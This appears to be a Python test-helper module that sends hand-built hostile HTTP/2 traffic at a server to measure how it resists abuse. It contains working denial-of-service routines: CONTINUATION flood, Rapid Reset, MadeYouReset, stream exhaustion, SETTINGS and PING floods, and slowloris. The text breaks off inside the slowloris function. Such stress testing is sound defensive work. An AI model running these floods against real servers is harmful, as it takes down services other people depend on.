"""Hostile HTTP/2 (and HTTP/1.1) peers for tests/test_abuse.py, and what it measures with.

- Frames and HPACK blocks are written by hand (``frame``, ``request_block``): an attacker
  must be able to send what no well-behaved library would (endless CONTINUATION frames,
  window increments that overflow, dynamic-table bombs).
- ``H2Conn`` is one raw h2c connection. Its reader thread parses every frame the server sends
  and records the server's reaction (GOAWAY and its code, RST_STREAM codes, response
  statuses, ACKs, the connection closing); its writer keeps the byte stream frame-aligned
  even when a write times out, and honours the server's flow-control windows for DATA.
- One function per attack (``continuation_flood`` ... ``huge_body``), each bounded in time:
  every socket operation has a timeout and every loop checks a deadline and a stop event.
- The well-behaved client runs as its own process (``python -m tests.h2_attackers probe``)
  so the attackers' CPU use in the test process (the GIL) cannot slow its calls down: it
  sends one prepared invocation every 200 ms on one h2c connection and checks each answer.
- ``usage`` reads the RSS and open fds of the server's process tree from /proc (granian runs
  the app in worker processes).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import errno
import json
import math
import os
import random
import select
import socket
import struct
import subprocess
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import hpack

from framework._protocol import EndMessage, InputCommandMessage, OutputCommandMessage, encode_frame
from tests.journals import decode_frames, iter_frames, journal, run_entries
from tests.processes import process_tree

ROOT = Path(__file__).resolve().parents[1]

# -- HTTP/2 frames, by hand (RFC 9113) -------------------------------------------------------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY = range(8)
WINDOW_UPDATE, CONTINUATION = 8, 9
END_STREAM = 0x1
ACK = 0x1
END_HEADERS = 0x4
PADDED = 0x8
PRIORITY_FLAG = 0x20
SETTINGS_HEADER_TABLE_SIZE = 0x1
SETTINGS_MAX_CONCURRENT_STREAMS = 0x3
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
SETTINGS_MAX_FRAME_SIZE = 0x5
SETTINGS_MAX_HEADER_LIST_SIZE = 0x6
ERROR_CODES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT",
    0x5: "STREAM_CLOSED",
    0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM",
    0x8: "CANCEL",
    0x9: "COMPRESSION_ERROR",
    0xA: "CONNECT_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
    0xC: "INADEQUATE_SECURITY",
    0xD: "HTTP_1_1_REQUIRED",
}
CANCEL = 0x8
MAX_FRAME_PAYLOAD = 16_384  # SETTINGS_MAX_FRAME_SIZE's initial value; granian keeps it
_FRAME_HEAD = struct.Struct(">BHBBI")  # 24-bit length as 8 + 16 bits, type, flags, stream


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame: the 9-byte header, then ``payload``."""
    length = len(payload)
    head = _FRAME_HEAD.pack(length >> 16, length & 0xFFFF, kind, flags, stream_id & 0x7FFFFFFF)
    return head + payload


def settings_frame(settings: dict[int, int] | None = None) -> bytes:
    payload = b"".join(struct.pack(">HI", key, value) for key, value in (settings or {}).items())
    return frame(SETTINGS, 0, 0, payload)


def rst_stream(stream_id: int, code: int = CANCEL) -> bytes:
    return frame(RST_STREAM, 0, stream_id, struct.pack(">I", code))


def window_update(stream_id: int, increment: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", increment & 0x7FFFFFFF))


def ping(payload: bytes = b"abuse!!!") -> bytes:
    return frame(PING, 0, 0, payload[:8].ljust(8, b"\0"))


def error_name(code: int) -> str:
    return ERROR_CODES.get(code, f"0x{code:x}")


# -- HPACK, by hand (RFC 7541): no Huffman, so sizes are exact ---------------------------------


def hpack_int(value: int, prefix_bits: int, first: int = 0) -> bytes:
    """``value`` in HPACK's prefixed integer encoding; ``first`` holds the pattern bits."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 0x80:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(data: bytes) -> bytes:
    return hpack_int(len(data), 7) + data


def hpack_indexed(index: int) -> bytes:
    """A reference to a static (1-61) or dynamic (62+) table entry: one byte per field."""
    return hpack_int(index, 7, 0x80)


def hpack_literal(name: bytes | int, value: bytes, *, add_to_table: bool = False) -> bytes:
    """A literal field; ``name`` a new name or a static table index. ``add_to_table`` inserts
    it into the peer's dynamic table (incremental indexing), else it is not indexed."""
    prefix, first = (6, 0x40) if add_to_table else (4, 0x00)
    if isinstance(name, int):
        return hpack_int(name, prefix, first) + hpack_string(value)
    return bytes([first]) + hpack_string(name) + hpack_string(value)


# Static table indices (RFC 7541 appendix A).
_AUTHORITY, _METHOD_GET, _METHOD_POST, _PATH, _SCHEME_HTTP = 1, 2, 3, 4, 6
_ACCEPT, _CONTENT_TYPE = 19, 31
FIRST_DYNAMIC_INDEX = 62
HPACK_ENTRY_OVERHEAD = 32  # what RFC 7541 and SETTINGS_MAX_HEADER_LIST_SIZE count per field


def request_block(
    target: Target, path: str = "/invoke/Abuse/echo", *, method: str = "POST"
) -> bytes:
    """A request's header block that leaves the peer's dynamic table untouched (so the same
    bytes can open any number of streams)."""
    parts = [
        hpack_indexed(_METHOD_POST if method == "POST" else _METHOD_GET),
        hpack_indexed(_SCHEME_HTTP),
        hpack_literal(_PATH, path.encode()),
        hpack_literal(_AUTHORITY, target.authority.encode()),
    ]
    if method == "POST":
        parts.append(hpack_literal(_CONTENT_TYPE, CONTENT_TYPE.encode()))
        parts.append(hpack_literal(_ACCEPT, CONTENT_TYPE.encode()))
    return b"".join(parts)


def header_frames(stream_id: int, block: bytes, *, end_stream: bool = False) -> bytes:
    """``block`` as HEADERS + as many CONTINUATION frames as the frame size needs."""
    chunks = [block[i : i + MAX_FRAME_PAYLOAD] for i in range(0, len(block), MAX_FRAME_PAYLOAD)]
    chunks = chunks or [b""]
    out = []
    for i, chunk in enumerate(chunks):
        flags = END_HEADERS if i == len(chunks) - 1 else 0
        if i == 0:
            out.append(frame(HEADERS, flags | (END_STREAM if end_stream else 0), stream_id, chunk))
        else:
            out.append(frame(CONTINUATION, flags, stream_id, chunk))
    return b"".join(out)


# -- the invocation the well-behaved client (and some attackers) send -------------------------

PROTOCOL_VERSION = 6
CONTENT_TYPE = f"application/vnd.restate.invocation.v{PROTOCOL_VERSION}"
INVOKE_PATH = "/invoke/Abuse/echo"  # tests/abuse_app.py: answers n + 1


def invocation_journal(n: int) -> bytes:
    """A prepared journal for ``Abuse/echo(n)``: Start(known_entries=1) + Input(n)."""
    return journal(
        InputCommandMessage(value=str(n).encode()),
        id=n.to_bytes(16, "big"),
        debug_id=f"inv_abuse_{n}",
        random_seed=n,
    )


def check_answer(body: bytes, n: int) -> str | None:
    """None when ``body`` is exactly Output(n + 1) + End; else what is wrong."""
    try:
        messages = decode_frames(body)
    except Exception as error:
        return f"undecodable answer: {error!r}"
    if (
        len(messages) == 2
        and isinstance(messages[0], OutputCommandMessage)
        and messages[0].value == str(n + 1).encode()
        and isinstance(messages[1], EndMessage)
    ):
        return None
    return f"expected Output({n + 1}) + End, got {[repr(m)[:120] for m in messages]}"


def describe_answer(body: bytes) -> str:
    """The protocol messages in an answer, briefly (an ErrorMessage with its code)."""
    names = []
    with contextlib.suppress(Exception):
        for message, _flags in iter_frames(body):
            code = getattr(message, "code", None)
            text = getattr(message, "message", "")
            names.append(
                f"{type(message).__name__}({code}: {str(text)[:80]})"
                if code is not None
                else type(message).__name__
            )
    return " + ".join(names) or f"{len(body)} bytes, no message"


# -- one raw connection -----------------------------------------------------------------------


@dataclass(frozen=True)
class Target:
    host: str
    port: int

    @property
    def authority(self) -> str:
        return f"{self.host}:{self.port}"


class HandshakeFailed(RuntimeError):
    """The server did not send its SETTINGS after our preface."""


@dataclass
class Reaction:
    """What the server did on one connection."""

    settings: dict[int, int] = field(default_factory=dict)  # the server's advertised values
    settings_frames: int = 0
    settings_acks: int = 0
    ping_acks: int = 0
    window_updates: int = 0
    data_bytes: int = 0
    responses: Counter[str] = field(default_factory=Counter)  # ":status" values
    resets: Counter[str] = field(default_factory=Counter)  # RST_STREAM codes
    goaways: list[str] = field(default_factory=list)
    other: Counter[str] = field(default_factory=Counter)  # anything else, as described
    closed: str | None = None  # how the connection ended, when the server ended it
    closed_after: float | None = None  # seconds after it was opened
    send_timeouts: int = 0  # writes that could not finish: the server stopped reading

    def events(self) -> Counter[str]:
        """The reaction as countable events, for merging over connections."""
        out: Counter[str] = Counter()
        for code, count in self.resets.items():
            out[f"RST_STREAM {code}"] += count
        for goaway in self.goaways:
            out[f"GOAWAY {goaway}"] += 1
        for status, count in self.responses.items():
            out[f"HTTP {status}"] += count
        out.update(self.other)
        if self.closed:
            out[self.closed] += 1
        if self.send_timeouts:
            out["writes blocked (server stopped reading)"] += self.send_timeouts
        if self.settings_acks:
            out["SETTINGS ACK"] += self.settings_acks
        if self.ping_acks:
            out["PING ACK"] += self.ping_acks
        return out


class H2Conn:
    """A raw h2c connection to ``target``: write anything, see everything the server sends.

    The socket stays non-blocking; reads and writes wait in ``poll`` with timeouts, so no
    operation can hang. Bytes a write could not finish stay queued and go out first next time,
    which keeps the stream frame-aligned (a half-written frame would be an attack of its own).
    """

    def __init__(
        self, target: Target, *, receive_buffer: int | None = None, timeout: float = 5.0
    ) -> None:
        self.target = target
        self.reaction = Reaction()
        self.bytes_sent = 0
        self.opened = time.monotonic()
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if receive_buffer is not None:  # before connect(), so the TCP window is small too
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        sock.settimeout(timeout)
        try:
            sock.connect((target.host, target.port))
        except OSError:
            sock.close()
            raise
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sock.setblocking(False)
        self.sock = sock
        # poll, not select: a test holding a thousand sockets has fds past select's 1024.
        # One poller per direction, as the reader and the writer are different threads.
        self._readable = select.poll()
        self._readable.register(sock, select.POLLIN)
        self._writable = select.poll()
        self._writable.register(sock, select.POLLOUT)
        self._write_lock = threading.Lock()
        self._pending = bytearray()
        self._owed_lock = threading.Lock()
        self._owed = bytearray()  # control replies the reader could not write at once
        self._buffer = bytearray()
        self._decoder = hpack.Decoder(max_header_list_size=1 << 30)
        self._block = bytearray()
        self._block_stream = 0
        self._block_ends_stream = False
        self._closing = False
        self._reader: threading.Thread | None = None
        # Flow control for what we send (DATA): the server's windows.
        self._credit = threading.Condition()
        self.connection_window = 65_535
        self.peer_initial_window = 65_535
        self.stream_windows: dict[int, int] = {}
        self.reset_streams: set[int] = set()
        self.ended_streams: set[int] = set()
        self.collect_bodies = False
        self.bodies: dict[int, bytearray] = {}

    # -- writing

    @property
    def usable(self) -> bool:
        """Neither closed nor told to go away: new streams may still be opened."""
        return self.reaction.closed is None and not self.reaction.goaways

    def send(self, data: bytes, timeout: float = 5.0) -> bool:
        """Write ``data`` (after anything still queued); False when the connection is gone or
        the server stopped reading for ``timeout`` seconds (the rest stays queued)."""
        deadline = time.monotonic() + timeout
        with self._write_lock:
            with self._owed_lock:
                self._pending += self._owed
                self._owed.clear()
            self._pending += data
            while self._pending:
                if self.reaction.closed is not None:
                    return False
                remaining = deadline - time.monotonic()
                if remaining <= 0:
                    self.reaction.send_timeouts += 1
                    return False
                if not self._writable.poll(int(min(remaining, 0.2) * 1000) + 1):
                    continue
                try:
                    sent = self.sock.send(self._pending)
                except BlockingIOError:
                    continue
                except OSError as error:
                    self._mark_closed(_closed_how(error, writing=True))
                    return False
                del self._pending[:sent]
                self.bytes_sent += sent
        return True

    def _send_soon(self, data: bytes) -> None:
        """From the reader thread: write now if the writer is idle, else with its next write
        (the reader must never wait on a writer blocked by a server that waits on us)."""
        if self._write_lock.acquire(blocking=False):
            try:
                self._pending += data
                with contextlib.suppress(BlockingIOError, OSError):
                    sent = self.sock.send(self._pending)
                    del self._pending[:sent]
                    self.bytes_sent += sent
            finally:
                self._write_lock.release()
        else:
            with self._owed_lock:
                self._owed += data

    def send_data(self, stream_id: int, data: bytes, *, end_stream: bool, deadline: float) -> int:
        """Send ``data`` on a stream as DATA frames within the server's windows; how many
        bytes went out (fewer when the stream was reset, the connection ended or time ran
        out)."""
        view = memoryview(data)
        sent = 0
        while sent < len(data) or (end_stream and sent == len(data) == 0):
            with self._credit:
                while True:
                    if stream_id in self.reset_streams or stream_id in self.ended_streams:
                        return sent
                    if self.reaction.closed is not None or time.monotonic() >= deadline:
                        return sent
                    window = min(
                        self.connection_window,
                        self.stream_windows.setdefault(stream_id, self.peer_initial_window),
                    )
                    if window > 0 or len(data) == 0:
                        break
                    self._credit.wait(0.1)
                size = min(window, MAX_FRAME_PAYLOAD, len(data) - sent)
                self.connection_window -= size
                self.stream_windows[stream_id] -= size
            last = sent + size == len(data)
            flags = END_STREAM if (last and end_stream) else 0
            chunk = frame(DATA, flags, stream_id, bytes(view[sent : sent + size]))
            if not self.send(chunk, timeout=max(0.1, deadline - time.monotonic())):
                return sent
            sent += size
            if last:
                break
        return sent

    # -- reading

    def handshake(self, settings: dict[int, int] | None = None, timeout: float = 5.0) -> None:
        """Preface + our SETTINGS; wait for the server's SETTINGS and acknowledge them."""
        if not self.send(PREFACE + settings_frame(settings), timeout):
            raise HandshakeFailed(f"could not send the preface: {self.reaction.closed}")
        deadline = time.monotonic() + timeout
        while self.reaction.settings_frames == 0:
            if self.reaction.closed is not None:
                raise HandshakeFailed(f"the server ended the connection: {self.reaction.closed}")
            if time.monotonic() >= deadline:
                raise HandshakeFailed(f"no SETTINGS from the server within {timeout:.0f} s")
            self._read_once(0.1)
        self.send(frame(SETTINGS, ACK, 0), timeout)

    def start_reader(self) -> None:
        self._reader = threading.Thread(target=self._read_loop, name="h2-reader", daemon=True)
        self._reader.start()

    def read_for(self, seconds: float) -> None:
        """Let ``seconds`` of the server's frames in (or until the connection ends): read them
        here, or wait for the reader thread when it runs (one reader at a time)."""
        deadline = time.monotonic() + seconds
        while self.reaction.closed is None and time.monotonic() < deadline:
            if self._reader is not None and self._reader.is_alive():
                time.sleep(min(0.05, max(0.0, deadline - time.monotonic())))
            else:
                self._read_once(min(0.1, max(0.0, deadline - time.monotonic())))

    def _read_loop(self) -> None:
        while not self._closing and self.reaction.closed is None:
            self._read_once(0.2)

    def _read_once(self, timeout: float) -> None:
        if not self._readable.poll(int(timeout * 1000)):
            return
        try:
            data = self.sock.recv(1 << 20)
        except BlockingIOError:
            return
        except OSError as error:
            self._mark_closed(_closed_how(error, writing=False))
            return
        if not data:
            self._mark_closed("connection closed by server")
            return
        self._feed(data)

    def _mark_closed(self, how: str) -> None:
        if self.reaction.closed is None and not self._closing:
            self.reaction.closed = how
            self.reaction.closed_after = time.monotonic() - self.opened
        with self._credit:
            self._credit.notify_all()

    def _feed(self, data: bytes) -> None:
        buffer = self._buffer
        buffer += data
        offset = 0
        while len(buffer) - offset >= 9:
            length = int.from_bytes(buffer[offset : offset + 3], "big")
            if len(buffer) - offset < 9 + length:
                break
            kind, flags = buffer[offset + 3], buffer[offset + 4]
            stream_id = int.from_bytes(buffer[offset + 5 : offset + 9], "big") & 0x7FFFFFFF
            payload = bytes(buffer[offset + 9 : offset + 9 + length])
            offset += 9 + length
            self._on_frame(kind, flags, stream_id, payload)
        del buffer[:offset]

    def _on_frame(self, kind: int, flags: int, stream_id: int, payload: bytes) -> None:
        reaction = self.reaction
        if kind in (DATA, HEADERS) and flags & PADDED and payload:
            payload = payload[1 : len(payload) - payload[0]]
        if kind == DATA:
            reaction.data_bytes += len(payload)
            if self.collect_bodies:
                self.bodies.setdefault(stream_id, bytearray()).extend(payload)
            if payload:  # keep the server able to answer: give back what it used
                self._send_soon(
                    window_update(0, len(payload)) + window_update(stream_id, len(payload))
                )
            if flags & END_STREAM:
                self._stream_ended(stream_id)
        elif kind in (HEADERS, CONTINUATION):
            if kind == HEADERS:
                if flags & PRIORITY_FLAG:
                    payload = payload[5:]
                self._block = bytearray(payload)
                self._block_stream = stream_id
                self._block_ends_stream = bool(flags & END_STREAM)
            else:
                self._block += payload
            if flags & END_HEADERS:
                try:
                    fields = self._decoder.decode(bytes(self._block), raw=True)
                except Exception as error:
                    reaction.responses[f"undecodable ({type(error).__name__})"] += 1
                else:
                    status = dict(fields).get(b":status", b"?").decode("latin-1")
                    reaction.responses[status] += 1
                if self._block_ends_stream:
                    self._stream_ended(self._block_stream)
        elif kind == RST_STREAM and len(payload) >= 4:
            reaction.resets[error_name(int.from_bytes(payload[:4], "big"))] += 1
            with self._credit:
                self.reset_streams.add(stream_id)
                self._credit.notify_all()
        elif kind == SETTINGS:
            if flags & ACK:
                reaction.settings_acks += 1
                return
            reaction.settings_frames += 1
            for i in range(0, len(payload) - 5, 6):
                key, value = struct.unpack(">HI", payload[i : i + 6])
                reaction.settings[key] = value
                if key == SETTINGS_INITIAL_WINDOW_SIZE:
                    with self._credit:
                        delta = value - self.peer_initial_window
                        self.peer_initial_window = value
                        for sid in self.stream_windows:
                            self.stream_windows[sid] += delta
                        self._credit.notify_all()
            if reaction.settings_frames > 1:  # the handshake acknowledges the first
                self._send_soon(frame(SETTINGS, ACK, 0))
        elif kind == PING:
            if flags & ACK:
                reaction.ping_acks += 1
            else:
                self._send_soon(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY and len(payload) >= 8:
            last_stream = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
            code = error_name(int.from_bytes(payload[4:8], "big"))
            debug = payload[8:].decode("latin-1")[:60]
            reaction.goaways.append(
                f"{code}" + (f" {debug!r}" if debug else "") + f" (last stream {last_stream})"
            )
            with self._credit:
                self._credit.notify_all()
        elif kind == WINDOW_UPDATE and len(payload) >= 4:
            reaction.window_updates += 1
            increment = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
            with self._credit:
                if stream_id == 0:
                    self.connection_window += increment
                else:
                    self.stream_windows[stream_id] = (
                        self.stream_windows.get(stream_id, self.peer_initial_window) + increment
                    )
                self._credit.notify_all()

    def _stream_ended(self, stream_id: int) -> None:
        with self._credit:
            self.ended_streams.add(stream_id)
            self._credit.notify_all()

    def close(self) -> None:
        self._closing = True
        if self._reader is not None:
            self._reader.join(timeout=2.0)
        with contextlib.suppress(OSError):
            self.sock.close()


def _closed_how(error: OSError, *, writing: bool) -> str:
    if error.errno == errno.ECONNRESET:
        return "connection reset by server"
    if error.errno == errno.EPIPE:
        return "connection closed by server"
    return f"connection failed while {'writing' if writing else 'reading'}: {error}"


# -- attacks ----------------------------------------------------------------------------------


@dataclass
class AttackResult:
    """What an attacker sent and what the server did to it."""

    name: str
    frames_sent: int = 0
    unit: str = "frames"  # what frames_sent counts
    connections: int = 0
    bytes_sent: int = 0
    reactions: list[Reaction] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)
    _lock: threading.Lock = field(default_factory=threading.Lock, repr=False)

    def count(self, frames: int) -> None:
        with self._lock:
            self.frames_sent += frames

    def finish(self, conn: H2Conn) -> None:
        """Close ``conn`` and keep what the server did on it."""
        conn.close()
        with self._lock:
            self.reactions.append(conn.reaction)
            self.bytes_sent += conn.bytes_sent

    def note(self, text: str) -> None:
        with self._lock:
            self.notes.append(text)

    def reaction_summary(self, limit: int = 8) -> str:
        events: Counter[str] = Counter()
        for reaction in self.reactions:
            events.update(reaction.events())
        parts = [f"{name} x{count}" for name, count in events.most_common(limit)]
        if len(events) > limit:
            parts.append(f"... {len(events) - limit} more kinds")
        return "; ".join(parts) or "nothing (no frame, connection left open)"


Attack = Callable[[Target, float, threading.Event], AttackResult]


class _Clock:
    """A deadline that an outside stop event can bring forward."""

    def __init__(self, seconds: float, stop: threading.Event) -> None:
        self.end = time.monotonic() + seconds
        self.stop = stop

    def over(self) -> bool:
        return self.stop.is_set() or time.monotonic() >= self.end

    def left(self) -> float:
        return max(0.0, self.end - time.monotonic())


def _in_threads(count: int, body: Callable[[int], None], clock: _Clock) -> None:
    threads = [
        threading.Thread(target=body, args=(i,), name=f"attacker-{i}", daemon=True)
        for i in range(count)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=clock.left() + 15.0)


def _connect(
    target: Target, result: AttackResult, *, settings: dict[int, int] | None = None
) -> H2Conn | None:
    """A handshaken connection, or None (noted) when the server would not have one."""
    try:
        conn = H2Conn(target)
    except OSError as error:
        result.note(f"connect failed: {error}")
        time.sleep(0.05)
        return None
    try:
        conn.handshake(settings)
    except HandshakeFailed as error:
        result.note(str(error))
        result.finish(conn)
        return None
    with result._lock:
        result.connections += 1
    return conn


def continuation_flood(target: Target, seconds: float, stop: threading.Event) -> AttackResult:
    """HEADERS without END_HEADERS, then CONTINUATION frames without end (CVE-2024-27316).

    Two connections send empty CONTINUATION frames (a frame-count attack), two send frames
    full of complete header fields (so the decoded list grows: a memory attack). Each
    reconnects whenever the server closes it and goes on until the deadline.
    """
    result = AttackResult("CONTINUATION flood")
    clock = _Clock(seconds, stop)
    filled_field = hpack_literal(b"x-continued", b"v" * 1000)
    filled = filled_field * (MAX_FRAME_PAYLOAD // len(filled_field))
    batch = 64

    def attacker(index: int) -> None:
        payload = b"" if index % 2 == 0 else filled
        chunk = frame(CONTINUATION, 0, 1, payload) * batch
        while not clock.over():
            conn = _connect(target, result)
            if conn is None:
                continue
            conn.start_reader()
            if conn.send(frame(HEADERS, 0, 1, request_block(target))):
                result.count(1)
            while conn.usable and not clock.over():
                if conn.send(chunk, timeout=min(1.0, clock.left() + 0.01)):
                    result.count(batch)
            conn.read_for(0.2)  # see the GOAWAY, if any, before counting the reaction
            result.finish(conn)

    _in_threads(4, attacker, clock)
    return result


def many_streams(
    target: Target, seconds: float, stop: threading.Event, *, zero_window: bool
) -> AttackResult:
    """Open streams up to and past the advertised maximum on one connection, finish none.

    ``zero_window``: we advertise SETTINGS_INITIAL_WINDOW_SIZE=0 and send every stream a
    complete invocation, so each handler answers into a stream that can take no DATA.
    Otherwise each stream is an invocation whose body never ends (no END_STREAM).

    The first connection goes 2,000 past the maximum (what does the server do with the
    excess?); whenever a connection is lost the next one opens the maximum and 500 more (fewer
    refusals than the 1,024 resets a connection may cause in hyper, so the server has to keep
    it) and holds them all open until the deadline.
    """
    name = "many streams, zero window" if zero_window else "many streams, no END_STREAM"
    result = AttackResult(name)
    clock = _Clock(seconds, stop)
    block = request_block(target)
    journal = invocation_journal(7)
    settings = {SETTINGS_INITIAL_WINDOW_SIZE: 0} if zero_window else None
    batch = 250
    past = 2_000
    while not clock.over():
        conn = _connect(target, result, settings=settings)
        if conn is None:
            continue
        conn.start_reader()
        advertised = conn.reaction.settings.get(SETTINGS_MAX_CONCURRENT_STREAMS)
        total = (advertised if advertised is not None else 10_000) + past
        started = time.monotonic()
        opened = 0
        while opened < total and conn.usable and not clock.over():
            parts = []
            for i in range(opened, min(total, opened + batch)):
                parts.append(frame(HEADERS, END_HEADERS, 2 * i + 1, block))
                if zero_window:
                    parts.append(frame(DATA, END_STREAM, 2 * i + 1, journal))
            if not conn.send(b"".join(parts), timeout=min(2.0, clock.left() + 0.01)):
                break
            opened = min(total, opened + batch)
            result.count(len(parts))
        result.note(
            f"connection {result.connections}: MAX_CONCURRENT_STREAMS={advertised}, opened "
            f"{opened} streams in {time.monotonic() - started:.1f} s"
        )
        while conn.usable and not clock.over():  # hold them
            time.sleep(0.05)
        if not clock.over():
            how = conn.reaction.goaways or conn.reaction.closed
            result.note(
                f"connection {result.connections} ended after "
                f"{time.monotonic() - started:.1f} s: {how}"
            )
        conn.read_for(0.2)
        result.finish(conn)
        past = 500
    return result


def rapid_reset(
    target: Target, seconds: float, stop: threading.Event, *, provoked: bool = False
) -> AttackResult:
    """HEADERS then at once RST_STREAM(CANCEL), as fast as we can (CVE-2023-44487).

    ``provoked``: the server is made to reset the streams itself (CVE-2025-8671, "MadeYouReset"):
    HEADERS then a WINDOW_UPDATE that overflows the stream's send window past 2^31-1, a stream
    error it must answer with RST_STREAM(FLOW_CONTROL_ERROR) once its app has the request (a
    zero increment would not do: hyper takes that as a connection error). Two connections,
    each reconnecting when closed.
    """
    result = AttackResult("provoked resets (MadeYouReset)" if provoked else "Rapid Reset")
    clock = _Clock(seconds, stop)
    block = request_block(target)
    pairs = 200

    def attacker(index: int) -> None:
        while not clock.over():
            conn = _connect(target, result)
            if conn is None:
                continue
            conn.start_reader()
            stream_id = 1
            while conn.usable and not clock.over() and stream_id < (1 << 31) - 2 * pairs:
                parts = []
                for _ in range(pairs):
                    parts.append(frame(HEADERS, END_HEADERS, stream_id, block))
                    parts.append(
                        window_update(stream_id, 0x7FFFFFFF) if provoked else rst_stream(stream_id)
                    )
                    stream_id += 2
                if conn.send(b"".join(parts), timeout=min(1.0, clock.left() + 0.01)):
                    result.count(2 * pairs)
            conn.read_for(0.2)  # see the GOAWAY, if any, before counting the reaction
            result.finish(conn)

    _in_threads(2, attacker, clock)
    return result


def settings_flood(target: Target, seconds: float, stop: threading.Event) -> AttackResult:
    """SETTINGS frames (each needing an ACK) as fast as we can, on two connections."""
    result = AttackResult("SETTINGS flood")
    clock = _Clock(seconds, stop)
    one = settings_frame({SETTINGS_HEADER_TABLE_SIZE: 4096, SETTINGS_INITIAL_WINDOW_SIZE: 65_535})
    batch = 500

    def attacker(index: int) -> None:
        while not clock.over():
            conn = _connect(target, result)
            if conn is None:
                continue
            conn.start_reader()
            while conn.usable and not clock.over():
                if conn.send(one * batch, timeout=min(1.0, clock.left() + 0.01)):
                    result.count(batch)
            conn.read_for(0.2)
            result.finish(conn)

    started = time.monotonic()
    _in_threads(2, attacker, clock)
    rate = result.frames_sent / max(1e-9, time.monotonic() - started)
    result.note(f"{rate:,.0f} SETTINGS frames/s")
    return result


def ping_flood_without_reading(
    target: Target, seconds: float, stop: threading.Event
) -> AttackResult:
    """PING frames as fast as we can, never reading the replies.

    Our receive buffer is made tiny, so the PING ACKs the server writes pile up on its side
    unless it stops reading us. At the end the socket is read once to count how many ACKs
    had been queued for us (kernel buffers included).
    """
    result = AttackResult("PING flood, never reading")
    clock = _Clock(seconds, stop)
    conns: list[H2Conn] = []
    for _ in range(2):
        try:
            conn = H2Conn(target, receive_buffer=4096)
            conn.handshake()
        except (OSError, HandshakeFailed) as error:
            result.note(f"could not connect: {error}")
            continue
        conns.append(conn)
        result.connections += 1
    batch = ping() * 500

    def attacker(index: int) -> None:
        if index >= len(conns):
            return
        conn = conns[index]
        blocked_at: int | None = None
        sent = 0
        while conn.reaction.closed is None and not clock.over():
            if conn.send(batch, timeout=min(0.5, clock.left() + 0.01)):
                sent += 500
                result.count(500)
            elif blocked_at is None and conn.reaction.closed is None:
                blocked_at = sent
        if blocked_at is not None:
            result.note(
                f"connection {index}: the server stopped reading us after {blocked_at} PINGs"
            )
        conn.read_for(2.0)  # now read: are the PINGs it did read all answered?
        result.note(
            f"connection {index}: once read, {conn.reaction.ping_acks} PING ACKs "
            f"for {sent} PINGs sent"
        )

    _in_threads(len(conns), attacker, clock)
    for conn in conns:
        result.finish(conn)
    return result


def _fresh_health_check(target: Target, timeout: float = 2.0) -> str:
    """Can a new client get ``GET /health`` answered now? A short description."""
    started = time.monotonic()
    try:
        conn = H2Conn(target, timeout=timeout)
    except OSError as error:
        return f"no: connect failed ({error})"
    try:
        conn.handshake(timeout=timeout)
        conn.send(header_frames(1, request_block(target, "/health", method="GET"), end_stream=True))
        deadline = time.monotonic() + timeout
        while not conn.reaction.responses and time.monotonic() < deadline:
            conn.read_for(0.1)
            if conn.reaction.closed:
                break
        if conn.reaction.responses:
            status = next(iter(conn.reaction.responses))
            return f"yes: HTTP {status} in {time.monotonic() - started:.2f} s"
        return f"no answer within {timeout:.0f} s"
    except HandshakeFailed as error:
        return f"no: {error}"
    finally:
        conn.close()


def slowloris(
    target: Target, seconds: float, stop: threading.Event, *, connections: int = 1100
) -> AttackResult:
    """Hold ``connections`` open, each trickling one byte per 200 ms of a request that never
    ends: HTTP/1.1 header lines, an h2 preface, or h2 frames after a full preface.

    The default is past granian's 1,024 connections per worker (its ``backpressure``): whether
    a new client can still connect meanwhile is checked and noted.
    """
    result = AttackResult("slowloris", unit="bytes trickled")
    clock = _Clock(seconds, stop)
    h1 = (
        f"POST {INVOKE_PATH} HTTP/1.1\r\nHost: {target.authority}\r\n".encode()
        + b"X-Slow: a\r\n" * 10_000
    )
    h2_preface = PREFACE + settings_frame() + frame(HEADERS, END_HEADERS, 1, request_block(target))
    h2_frames = frame(HEADERS, END_HEADERS, 1, request_block(target)) + frame(
        DATA, 0, 1, b"\0" * 10_000
    )
    socks: list[tuple[socket.socket, bytes]] = []
    connect_failures: Counter[str] = Counter()
    for i in range(connections):
        if clock.over():
            break
        try:
            sock = socket.create_connection((target.host, target.port), timeout=1.0)
        except OSError as error:
            connect_failures[type(error).__name__] += 1
            continue
        kind = i % 3
        script = h1 if kind == 0 else h2_preface if kind == 1 else h2_frames
        if kind == 2:  # a full preface first, then the frames byte by byte
            with contextlib.suppress(OSError):
                sock.sendall(PREFACE + settings_frame())
        sock.setblocking(False)
        socks.append((sock, script))
    result.connections = len(socks)
    if connect_failures:
        result.note(f"connects that failed: {dict(connect_failures)}")
    result.note(f"{len(socks)} connections held open")
    closed: Counter[str] = Counter()
    alive = list(range(len(socks)))
    offset = 0
    checked = False
    while not clock.over() and alive:
        still = []
        for i in alive:
            sock, script = socks[i]
            try:
